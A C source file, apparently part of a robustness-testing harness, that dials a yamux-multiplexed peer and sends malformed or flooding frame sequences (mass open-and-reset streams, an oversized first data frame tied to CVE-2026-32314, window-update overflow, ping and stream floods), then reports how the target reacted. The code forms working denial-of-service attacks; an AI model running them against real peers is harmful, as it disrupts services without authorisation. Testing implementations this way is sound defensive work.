/* SPDX-License-Identifier: GPL-3.0-or-later */

#include "attack.h"

#include "attack-dial.h"
#include "attack-session.h"
#include "p2p-ping.h"
#include "report.h"

#include <string.h>

#define FIRST_SOURCE 120
#define PATIENCE_SEC 4
#define WINDOW       (256 * 1024)

static const char ping_stream[] = "\x13/multistream/1.0.0\n\x11" P2P_PING_ID "\n";

/**
 * Frames:
 * @since: when its frames were sent
 * @n_resets: streams of ours that the other end reset
 * @go_away: why the other end ended the session, -1 if it did not say
 *
 * attack frames HOST PORT CASE …: each case in a session of its own, all at once.
 */
typedef struct
{
  Attack     *attack;
  const char *name;
  gint64      since;
  guint       n_resets;
  int         go_away;
  guint       timer;
} Frames;

static guint n_running;

static void
send (AttackSession *session,
      P2pYamuxType   type,
      guint16        flags,
      guint32        stream,
      guint32        length)
{
  P2pYamuxFrame frame = { type, flags, stream, length };

  attack_session_frame (session, &frame, NULL, 0);
}

static void
send_data (AttackSession *session,
           guint16        flags,
           guint32        stream,
           const void    *data,
           gsize          len)
{
  P2pYamuxFrame frame = { P2P_YAMUX_DATA, flags, stream, (guint32) len };

  attack_session_frame (session, &frame, data, len);
}

/* N-09: opened and reset at once. */
static void
make_resets (AttackSession *session)
{
  for (guint i = 0; i < 10000; i++)
    {
      send (session, P2P_YAMUX_WINDOW_UPDATE, P2P_YAMUX_SYN, 2 * i + 1, 0);
      send (session, P2P_YAMUX_WINDOW_UPDATE, P2P_YAMUX_RST, 2 * i + 1, 0);
    }
}

/* CVE-2026-32314: the length of a first frame is believed before the window is looked at. */
static void
make_data_syn (AttackSession *session)
{
  send (session, P2P_YAMUX_DATA, P2P_YAMUX_SYN, 1, WINDOW + 1);
}

static void
make_overflow (AttackSession *session)
{
  send (session, P2P_YAMUX_WINDOW_UPDATE, P2P_YAMUX_SYN, 1, G_MAXUINT32);
  send (session, P2P_YAMUX_WINDOW_UPDATE, 0, 1, G_MAXUINT32);
}

/* Pings that are echoed until our own window is full, and then lie unread. */
static void
make_beyond_window (AttackSession *session)
{
  static const guint8 zeros[65536];

  send_data (session, P2P_YAMUX_SYN, 1, ping_stream, sizeof ping_stream - 1);

  for (guint i = 0; i < 32; i++)
    send_data (session, 0, 1, zeros, sizeof zeros);
}

static void
make_pings (AttackSession *session)
{
  for (guint i = 0; i < 1000; i++)
    send (session, P2P_YAMUX_PING, P2P_YAMUX_SYN, 0, i);
}

static void
make_empties (AttackSession *session)
{
  send (session, P2P_YAMUX_WINDOW_UPDATE, P2P_YAMUX_SYN, 1, 0);

  for (guint i = 0; i < 1000; i++)
    send (session, P2P_YAMUX_WINDOW_UPDATE, 0, 1, 0);
}

/* Eight more than fit, and nothing more is wrong with them. */
static void
make_streams (AttackSession *session)
{
  for (guint i = 0; i < 40; i++)
    send (session, P2P_YAMUX_WINDOW_UPDATE, P2P_YAMUX_SYN, 2 * i + 1, 0);
}

static const struct
{
  const char *name;
  void        (*make) (AttackSession *session);
} cases[] = {
  { "resets", make_resets },
  { "data-syn", make_data_syn },
  { "overflow", make_overflow },
  { "beyond-window", make_beyond_window },
  { "pings", make_pings },
  { "empties", make_empties },
  { "streams", make_streams },
};

static void
end (Frames     *self,
     const char *how)
{
  JsonObject *fields = json_object_new ();

  g_clear_handle_id (&self->timer, g_source_remove);
  json_object_set_string_member (fields, "case", self->name);
  json_object_set_string_member (fields, "how", how);
  json_object_set_double_member (fields, "seconds", attack_seconds_since (self->since));
  json_object_set_int_member (fields, "resets", self->n_resets);
  json_object_set_int_member (fields, "go_away", self->go_away);
  report ("frames", fields);

  if (--n_running == 0)
    g_main_loop_quit (self->attack->loop);
}

static void
frame_cb (AttackSession       *session,
          const P2pYamuxFrame *frame,
          gpointer             user_data)
{
  Frames *self = user_data;

  if (frame->type == P2P_YAMUX_GO_AWAY)
    self->go_away = (int) frame->length;
  else if (frame->stream % 2 == 1 && (frame->flags & P2P_YAMUX_RST) != 0)
    self->n_resets++;
}

static void
closed_cb (AttackSession *session,
           gpointer       user_data)
{
  Frames *self = user_data;

  if (self->timer != 0)
    end (self, "closed");
}

static gboolean
patience_cb (gpointer user_data)
{
  Frames *self = user_data;

  self->timer = 0;
  end (self, "open");

  return G_SOURCE_REMOVE;
}

static void
dialled_cb (GObject      *source,
            GAsyncResult *result,
            gpointer      user_data)
{
  Frames *self = user_data;
  g_autoptr(GIOStream) stream = attack_dial_finish (result, NULL, NULL);
  AttackSession *session;

  if (stream == NULL)
    {
      end (self, "refused");
      return;
    }

  session = attack_session_new (stream, frame_cb, closed_cb, self);

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    if (strcmp (self->name, cases[i].name) == 0)
      cases[i].make (session);

  self->since = g_get_monotonic_time ();
  self->timer = g_timeout_add_seconds (PATIENCE_SEC, patience_cb, self);
  attack_session_flush (session);
}

void
attack_frames (Attack *attack)
{
  for (guint i = 0; attack->words[i] != NULL; i++)
    {
      g_autoptr(P2pIdentity) identity = p2p_identity_new ();
      AttackFrom from = { attack->target, FIRST_SOURCE + i, identity };
      Frames *self = g_new0 (Frames, 1);

      self->attack = attack;
      self->name = attack->words[i];
      self->go_away = -1;
      n_running++;
      attack_dial_async (&from, ATTACK_MULTIPLEXED, NULL, dialled_cb, self);
    }
}
